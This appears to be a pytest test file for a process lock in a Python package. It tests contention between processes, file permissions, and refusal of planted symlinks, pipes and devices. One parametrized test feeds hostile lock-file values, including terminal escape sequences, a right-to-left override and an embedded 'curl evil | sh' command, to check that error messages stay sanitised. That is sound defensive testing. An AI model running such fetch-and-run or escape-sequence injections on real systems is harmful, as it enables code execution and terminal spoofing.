"""The lock, tried with real processes."""

from __future__ import annotations

import errno
import json
import os
import socket
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from attack import how_many
from fedsdr.errors import RunError, RunLocked
from fedsdr.report.read import alive
from fedsdr.runs.lock import run_lock

# Only the standard library and the lock are imported: 20 of these start at once on two cores.
CONTENDER = """
import sys
from pathlib import Path
from fedsdr.errors import RunLocked
from fedsdr.runs.lock import run_lock
print("ready", flush=True)
sys.stdin.readline()
try:
    with run_lock(Path(sys.argv[1])):
        print("won", flush=True)
        sys.stdin.readline()
except RunLocked as error:
    print(f"refused: {error}", flush=True)
    sys.stdin.readline()
"""


def start(directory: Path) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [sys.executable, "-c", CONTENDER, str(directory)],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )


def say(process: subprocess.Popen[str]) -> None:
    assert process.stdin is not None
    process.stdin.write("\n")
    process.stdin.flush()


def hear(process: subprocess.Popen[str]) -> str:
    assert process.stdout is not None
    return process.stdout.readline().strip()


def test_of_many_at_once_one_wins_and_a_kill_frees_the_lock(tmp_path: Path) -> None:
    contenders = [start(tmp_path) for _ in range(how_many(20))]
    try:
        assert {hear(process) for process in contenders} == {"ready"}
        for process in contenders:
            say(process)
        answers = [hear(process) for process in contenders]
        assert answers.count("won") == 1
        winner = contenders[answers.index("won")]
        for answer in answers:
            if answer != "won":
                assert answer.startswith(f"refused: {tmp_path} is in use by ")
        with (
            pytest.raises(
                RunLocked, match=f"in use by process {winner.pid} on {socket.gethostname()}"
            ),
            run_lock(tmp_path),
        ):
            pytest.fail("two processes hold the lock")
        winner.kill()
        winner.wait()
        with run_lock(tmp_path):
            assert f'"pid": {os.getpid()}' in (tmp_path / "lock").read_text()
    finally:
        for process in contenders:
            process.kill()
            process.communicate()


def test_lock_is_private_released_and_not_taken_twice(tmp_path: Path) -> None:
    before = os.umask(0)
    try:
        with (
            run_lock(tmp_path),
            pytest.raises(RunLocked, match=f"process {os.getpid()} on "),
            run_lock(tmp_path),
        ):
            pytest.fail("taken twice")
    finally:
        os.umask(before)
    assert stat.S_IMODE((tmp_path / "lock").stat().st_mode) == 0o600
    with pytest.raises(ZeroDivisionError), run_lock(tmp_path):
        raise ZeroDivisionError
    with run_lock(tmp_path):
        pass


def test_content_of_a_dead_owner_does_not_matter(tmp_path: Path) -> None:
    (tmp_path / "lock").write_bytes(b"\xff rubbish" * 1000)
    with run_lock(tmp_path):
        assert (tmp_path / "lock").read_text().startswith('{"pid": ')


def test_no_directory_and_planted_link(tmp_path: Path) -> None:
    with pytest.raises(RunError, match="no such directory"), run_lock(tmp_path / "nowhere"):
        pass
    (tmp_path / "precious").write_text("precious")
    (tmp_path / "lock").symlink_to(tmp_path / "precious")
    with pytest.raises(RunError, match="lock cannot be written"), run_lock(tmp_path):
        pass
    assert (tmp_path / "precious").read_text() == "precious"


@pytest.mark.parametrize(
    ("signed", "told"),
    [
        ({"pid": 7, "host": "vm-1.example.org"}, "process 7 on vm-1.example.org"),
        ({"pid": 7, "host": "\x1b]0;owned\x07\x1b[2J"}, "another process"),
        ({"pid": 7, "host": "vm\u202eevil"}, "another process"),
        ({"pid": 7, "host": "vm; run `curl evil | sh` to mend it"}, "another process"),
        ({"pid": 7, "host": "x" * 3000}, "another process"),
        ({"pid": 7, "host": ["a"]}, "another process"),
        ({"pid": 7, "host": ""}, "another process"),
        ({"pid": -1, "host": "vm"}, "another process"),
        ({"pid": 0, "host": "vm"}, "another process"),
        ({"pid": True, "host": "vm"}, "another process"),
        ({"pid": 10**400, "host": "vm"}, "another process"),
        ({"pid": 1e300, "host": "vm"}, "another process"),
        ({"pid": "7\x1b[31m", "host": "vm"}, "another process"),
        (["\x1b"], "another process"),
    ],
)
def test_whatever_signed_it_no_terminal_is_told_more_than_a_name(
    tmp_path: Path, signed: object, told: str
) -> None:
    with run_lock(tmp_path):
        (tmp_path / "lock").write_text(json.dumps(signed, ensure_ascii=False))
        with pytest.raises(RunLocked) as refusal, run_lock(tmp_path):
            pass
        said = str(refusal.value).replace(str(tmp_path), "DIR")
        assert said.startswith(f"DIR is in use by {told}")
        assert said.isprintable()
        assert len(said) < 200
        assert alive(tmp_path / "lock") is False or signed == {"pid": 7, "host": "vm-1.example.org"}


@pytest.mark.parametrize("kind", ["pipe", "socket", "device", "folder", "second name", "link"])
def test_what_is_no_lock_is_neither_written_nor_waited_for(tmp_path: Path, kind: str) -> None:
    lock, theirs = tmp_path / "run" / "lock", tmp_path / "theirs"
    lock.parent.mkdir()
    theirs.write_text("precious")
    theirs.chmod(0o644)
    if kind == "pipe":
        os.mkfifo(lock)
    elif kind == "socket":
        with socket.socket(socket.AF_UNIX) as made:
            made.bind(str(lock))
    elif kind == "device":
        if os.geteuid():
            pytest.skip("only root makes devices")
        os.mknod(lock, 0o600 | stat.S_IFCHR, os.makedev(1, 3))
    elif kind == "folder":
        lock.mkdir()
    elif kind == "link":
        lock.symlink_to(theirs)
    else:
        os.link(theirs, lock)
    with pytest.raises(RunError, match="lock"), run_lock(lock.parent):
        pass
    assert not alive(lock)
    assert theirs.read_text() == "precious"
    assert stat.S_IMODE(theirs.stat().st_mode) == 0o644


def test_a_full_disk_does_not_hinder_whoever_makes_room(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def full(*_: object) -> int:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(os, "pwrite", full)
    with (
        run_lock(tmp_path),
        pytest.raises(RunLocked, match="another process"),
        run_lock(tmp_path),
    ):
        pass
